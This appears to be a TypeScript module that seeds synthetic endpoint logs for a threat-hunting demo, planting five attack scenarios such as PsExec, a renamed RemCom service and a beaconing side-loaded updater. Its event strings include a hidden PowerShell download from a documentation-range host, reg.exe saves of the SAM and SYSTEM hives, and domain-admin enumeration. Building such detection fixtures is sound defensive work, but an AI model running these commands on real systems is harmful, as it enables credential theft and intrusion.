// The planted rare service executions, each on exactly one host and each with the
// activity a responder would expect around it. Attacker-looking strings live only
// here. Addresses are documentation ranges (RFC 5737) and names are under the
// reserved example.* domains, so nothing points at a real system.
import type { Account, Binary, HostFormat, Proc, ServiceInstall } from './model.js';
import { SYSTEM } from './model.js';
import type { Remote, ServiceDef } from './catalog.js';
import { BIN, DLL, binary } from './catalog.js';
import type { HostContext } from './demo-fleet.js';
import { HOUR, MINUTE, SECOND, at, iso7 } from './time.js';

const MS_TICK = 10_000;

export interface PlantedService {
  id: string;
  host: string;
  format: HostFormat;
  serviceName: string;
  name: string;
  path: string;
  sha256: string;
  /** Start times (ISO, UTC) of its instances. */
  starts: string[];
  /** Service child launches on its host. */
  children: number;
  /** Which rarity measures should flag it with the default settings. */
  rareBy: Array<'binary' | 'path' | 'host'>;
}

export const PLANTED_BINARIES = {
  psexesvc: binary('C:\\Windows\\PSEXESVC.exe', {
    company: 'Sysinternals - www.sysinternals.com', product: 'Sysinternals PsExec', version: '2.43',
    description: 'PsExec Service', signer: 'Microsoft Corporation',
  }),
  svch0st: binary('C:\\Users\\jdoe\\AppData\\Local\\Temp\\svch0st4821.exe', {
    company: '', product: '', version: '1.2.0.0', description: 'Remote Command Executor Service',
    originalName: 'RemComSvc.exe', signed: 'unsigned',
  }),
  updsvc: binary('C:\\ProgramData\\UpdaterSvc\\updsvc.exe', {
    company: 'Updater Soft Ltd', product: 'Updater Service', version: '3.1.0.4', description: 'Updater Service',
    signer: 'Updater Soft Ltd', signed: 'untrusted',
  }),
  versionDll: binary('C:\\ProgramData\\UpdaterSvc\\version.dll', {
    company: 'Microsoft Corporation', product: '', version: '10.0.22621.1', description: 'Version Checking and File Installation Libraries',
    originalName: 'VERSION.dll', signed: 'unsigned',
  }),
  beacon: binary('C:\\Windows\\Temp\\a7f3c2e1.exe', { company: '', product: '', version: '', description: '', signed: 'unsigned' }),
  dtelsvc: binary('C:\\ProgramData\\Microsoft\\Diagnosis\\Telemetry\\dtelsvc.exe', {
    version: '10.0.22621.1', description: 'Diagnostics Telemetry Service', signed: 'unsigned',
  }),
  dtelcore: binary('C:\\ProgramData\\Microsoft\\Diagnosis\\Telemetry\\dtelcore.dll', {
    company: '', product: '', version: '', description: '', signed: 'unsigned',
  }),
} as const;

function def(key: string, serviceName: string, bin: Binary, account: Account = SYSTEM): ServiceDef {
  return { key, serviceName, bin, cmd: bin.path, account, children: [], dlls: [], remotes: [], files: [] };
}

function install(bin: Binary, serviceName: string, imagePath: string, startType: 'auto' | 'demand', installer: Account): ServiceInstall {
  return { serviceName, imagePath, file: bin, account: 'LocalSystem', startType, installer };
}

function describe(
  id: string, ctx: HostContext, serviceName: string, bin: Binary, starts: Proc[], children: number,
  rareBy: PlantedService['rareBy'],
): PlantedService {
  const host = ctx.tl.host;
  return {
    id, host: host.name, format: host.format, serviceName, name: bin.name, path: bin.path, sha256: bin.sha256,
    starts: starts.map((p) => iso7(p.start)), children, rareBy,
  };
}

/** 1. PsExec: an admin share copy, 7045 + 4697, PSEXESVC runs whoami and dumps SAM/SYSTEM. */
function psexec(ctx: HostContext, from: string): PlantedService {
  const { tl } = ctx;
  const t = at(2026, 10, 20, 1, 12, 43) + 118 * MS_TICK;
  const bin = PLANTED_BINARIES.psexesvc;
  const admin: Account = { domain: 'CONTOSO', name: 'svc_sqlbackup', sid: 'S-1-5-21-1004336348-1177238915-682003330-1611', logonId: 0x1f3a2c };
  const system = tl.bootAt(t).system;
  tl.network(t - 3 * SECOND, system, { ip: from, port: 445, name: '-' }, true);
  tl.file(t - SECOND, system, bin.path, 'created', bin);
  tl.install(t, install(bin, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe', 'demand', admin));
  const svc = tl.startService(t + 212 * MS_TICK, def('psexesvc', 'PSEXESVC', bin), { ownImage: true });
  const cmd = tl.process(t + 4 * SECOND + 77 * MS_TICK, BIN.cmd, '"cmd.exe" /c whoami', svc);
  tl.process(t + 4 * SECOND + 131 * MS_TICK, BIN.whoami, 'whoami', cmd);
  const sam = tl.process(t + 21 * SECOND + 402 * MS_TICK, BIN.reg, 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y', svc);
  tl.file(t + 21 * SECOND + 640 * MS_TICK, sam, 'C:\\Windows\\Temp\\sam.save', 'created');
  const sys = tl.process(t + 26 * SECOND + 15 * MS_TICK, BIN.reg, 'reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save /y', svc);
  tl.file(t + 26 * SECOND + 911 * MS_TICK, sys, 'C:\\Windows\\Temp\\system.save', 'created');
  return describe('psexec', ctx, 'PSEXESVC', bin, [svc], 3, ['binary', 'path', 'host']);
}

/** 2. A renamed RemCom service in a user's temp folder, installed with sc.exe from PowerShell. */
function renamedInTemp(ctx: HostContext): PlantedService {
  const { tl } = ctx;
  const user = ctx.user;
  if (!user) throw new Error('renamedInTemp needs a host with a user');
  const t = at(2026, 10, 24, 14, 3, 17) + 540 * MS_TICK;
  const bin = PLANTED_BINARIES.svch0st;
  const payload: Remote = { ip: '203.0.113.45', port: 80, name: '-' };
  const ps = tl.process(
    t - 5 * MINUTE, BIN.powershell,
    `powershell.exe -nop -w hidden -c "iwr http://203.0.113.45/d/svch0st.exe -OutFile $env:TEMP\\svch0st4821.exe"`,
    ctx.explorerAt(t), user, 'High',
  );
  tl.network(t - 5 * MINUTE + 2 * SECOND, ps, payload);
  tl.file(t - 5 * MINUTE + 4 * SECOND, ps, bin.path, 'created', bin);
  tl.process(t - 40 * SECOND, BIN.sc, `"C:\\Windows\\system32\\sc.exe" create WinHostHelper binPath= "${bin.path}" start= auto`, ps);
  tl.install(t - 40 * SECOND + 180 * MS_TICK, install(bin, 'WinHostHelper', bin.path, 'auto', user));
  tl.process(t - 2 * SECOND, BIN.sc, '"C:\\Windows\\system32\\sc.exe" start WinHostHelper', ps);
  const svc = tl.startService(t, def('svch0st', 'WinHostHelper', bin), { ownImage: true });
  tl.image(t + 51 * MS_TICK, svc, DLL.wininet);
  tl.network(t + 3 * SECOND, svc, { ip: '203.0.113.45', port: 8443, name: '-' });
  tl.file(t + 9 * SECOND, svc, 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\msupd.dat', 'created');
  tl.process(t + 12 * SECOND, BIN.rundll32, '"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\jdoe\\AppData\\Local\\Temp\\msupd.dat,DllRegisterServer', svc);
  return describe('renamed-in-temp', ctx, 'WinHostHelper', bin, [svc], 1, ['binary', 'path', 'host']);
}

/** 3. A persistent "updater" that beacons every ~6 h and side-loads an unsigned version.dll. */
function sideloadingUpdater(ctx: HostContext): PlantedService {
  const { tl } = ctx;
  const user = ctx.user;
  if (!user) throw new Error('sideloadingUpdater needs a host with a user');
  const t = at(2026, 10, 9, 16, 20, 4) + 377 * MS_TICK;
  const bin = PLANTED_BINARIES.updsvc;
  const dll = PLANTED_BINARIES.versionDll;
  const c2: Remote = { ip: '203.0.113.77', port: 443, name: 'cdn.update-sync.example.net' };
  const ps = tl.process(
    t - 3 * MINUTE, BIN.powershell,
    `powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\${user.name}\\Downloads\\UpdaterSetup.ps1`,
    ctx.explorerAt(t), user, 'High',
  );
  tl.file(t - 2 * MINUTE, ps, bin.path, 'created', bin);
  tl.file(t - 2 * MINUTE + SECOND, ps, dll.path, 'created', dll);
  tl.process(t - MINUTE, BIN.sc, `"C:\\Windows\\system32\\sc.exe" create UpdaterSvc binPath= "${bin.path}" start= auto`, ps);
  tl.install(t - MINUTE + 230 * MS_TICK, install(bin, 'UpdaterSvc', bin.path, 'auto', user));
  const second = ctx.boots[1];
  if (second === undefined || second < t) throw new Error('sideloadingUpdater expects a reboot after the install');
  const starts = [t, second + 31 * SECOND];
  const procs = starts.map((start, i) => {
    const svc = tl.startService(start, def('updsvc', 'UpdaterSvc', bin));
    tl.image(start + 310 * MS_TICK, svc, dll);
    tl.image(start + 352 * MS_TICK, svc, DLL.winhttp);
    const until = starts[i + 1] ?? ctx.end;
    let n = 0;
    for (let b = start + 12 * SECOND; b < until; b += 6 * HOUR + ((n * 7_919) % 1_800) * SECOND, n++) {
      tl.network(b, svc, c2);
      if (n % 8 === 0) tl.file(b + 2 * SECOND, svc, 'C:\\ProgramData\\UpdaterSvc\\cache\\state.dat', n === 0 ? 'created' : 'modified');
    }
    return svc;
  });
  return describe('sideloading-updater', ctx, 'UpdaterSvc', bin, procs, 0, ['binary', 'path']);
}

/** 4. Cobalt Strike-style jump: random-named exe in Windows\Temp, installed, started, spawns rundll32 and cmd. */
function randomNamedService(ctx: HostContext): PlantedService {
  const { tl } = ctx;
  const t = at(2026, 10, 22, 2, 14, 7) + 662 * MS_TICK;
  const bin = PLANTED_BINARIES.beacon;
  const c2: Remote = { ip: '198.51.100.23', port: 443, name: 'cdn-static.example.com' };
  const admin: Account = { domain: 'CONTOSO', name: 'adm-tnguyen', sid: 'S-1-5-21-1004336348-1177238915-682003330-1388', logonId: 0x2a91f0 };
  tl.file(t - 2 * SECOND, tl.bootAt(t).system, bin.path, 'created', bin);
  tl.install(t, install(bin, 'a7f3c2e1', bin.path, 'demand', admin));
  const svc = tl.startService(t + 287 * MS_TICK, def('a7f3c2e1', 'a7f3c2e1', bin));
  tl.image(t + 390 * MS_TICK, svc, DLL.wininet);
  tl.image(t + 402 * MS_TICK, svc, DLL.ws2_32);
  tl.network(t + 2 * SECOND + 55 * MS_TICK, svc, c2);
  const spawnTo = tl.process(t + 5 * SECOND + 12 * MS_TICK, BIN.rundll32, 'C:\\Windows\\System32\\rundll32.exe', svc);
  tl.network(t + 6 * SECOND + 440 * MS_TICK, spawnTo, c2);
  tl.file(t + 9 * SECOND, svc, 'C:\\Windows\\Temp\\a7f3c2e1.log', 'created');
  const cmd = tl.process(t + 47 * SECOND + 3 * MS_TICK, BIN.cmd, 'C:\\Windows\\system32\\cmd.exe /C net group "domain admins" /domain', svc);
  tl.process(t + 47 * SECOND + 96 * MS_TICK, BIN.net, 'net  group "domain admins" /domain', cmd);
  return describe('random-named-service', ctx, 'a7f3c2e1', bin, [svc], 2, ['binary', 'path', 'host']);
}

/**
 * 5. A tunnel posing as a Windows telemetry service, copied over SMB from WKS-OPS09 with an
 * admin account and installed remotely; it loads an unsigned DLL from its folder, calls
 * out, reaches the domain controller's LDAP through the tunnel and runs two commands.
 */
function telemetryTunnel(ctx: HostContext, from: string): PlantedService {
  const { tl } = ctx;
  const t = at(2026, 10, 26, 3, 41, 15) + 208 * MS_TICK;
  const bin = PLANTED_BINARIES.dtelsvc;
  const dll = PLANTED_BINARIES.dtelcore;
  const admin: Account = { domain: 'CONTOSO', name: 'adm-jdoe', sid: 'S-1-5-21-1004336348-1177238915-682003330-1402', logonId: 0x3b7e21 };
  const imagePath = `"${bin.path}" -service`;
  const system = tl.bootAt(t).system;
  tl.network(t - 9 * SECOND, system, { ip: from, port: 445, name: '-' }, true);
  tl.file(t - 7 * SECOND, system, bin.path, 'created', bin);
  tl.file(t - 6 * SECOND - 500 * MS_TICK, system, dll.path, 'created', dll);
  tl.install(t - 2 * SECOND + 140 * MS_TICK, install(bin, 'DiagTelemetrySvc', imagePath, 'auto', admin));
  const svc = tl.startService(t, { ...def('dtelsvc', 'DiagTelemetrySvc', bin), cmd: imagePath }, { ownImage: true });
  tl.image(t + 64 * MS_TICK, svc, dll);
  tl.image(t + 71 * MS_TICK, svc, DLL.ws2_32);
  tl.network(t + 2 * SECOND + 310 * MS_TICK, svc, { ip: '192.0.2.61', port: 443, name: 'sync.diag-telemetry.example.org' });
  tl.file(t + 9 * SECOND, svc, 'C:\\ProgramData\\Microsoft\\Diagnosis\\Telemetry\\dtel.dat', 'created');
  tl.network(t + 40 * SECOND, svc, { ip: '10.0.0.10', port: 389, name: 'dc01.contoso.local' });
  const whoami = tl.process(t + 72 * SECOND + 15 * MS_TICK, BIN.cmd, 'C:\\Windows\\system32\\cmd.exe /c "whoami /priv"', svc);
  tl.process(t + 72 * SECOND + 88 * MS_TICK, BIN.whoami, 'whoami  /priv', whoami);
  const view = tl.process(t + 4 * MINUTE + 3 * SECOND, BIN.cmd, 'C:\\Windows\\system32\\cmd.exe /c net view \\\\SRV-FILE02 /all', svc);
  tl.process(t + 4 * MINUTE + 3 * SECOND + 61 * MS_TICK, BIN.net, 'net  view \\\\SRV-FILE02 /all', view);
  return describe('telemetry-tunnel', ctx, 'DiagTelemetrySvc', bin, [svc], 2, ['binary', 'path', 'host']);
}

/** Where each scenario lives: one host per source format, so every importer has a find. */
export const PLANT_HOSTS = {
  psexec: 'SRV-FILE02',
  renamedInTemp: 'WKS-OPS09',
  sideloadingUpdater: 'eng-ws06',
  randomNamedService: 'fin-ws02.contoso.local',
  telemetryTunnel: 'SRV-APP02',
} as const;

export function plantAll(hosts: ReadonlyMap<string, HostContext>): PlantedService[] {
  const get = (name: string) => {
    const ctx = hosts.get(name);
    if (!ctx) throw new Error(`no demo host ${name}`);
    return ctx;
  };
  const updater = get(PLANT_HOSTS.sideloadingUpdater);
  return [
    psexec(get(PLANT_HOSTS.psexec), updater.tl.host.ip),
    renamedInTemp(get(PLANT_HOSTS.renamedInTemp)),
    sideloadingUpdater(updater),
    randomNamedService(get(PLANT_HOSTS.randomNamedService)),
    telemetryTunnel(get(PLANT_HOSTS.telemetryTunnel), get(PLANT_HOSTS.renamedInTemp).tl.host.ip),
  ];
}

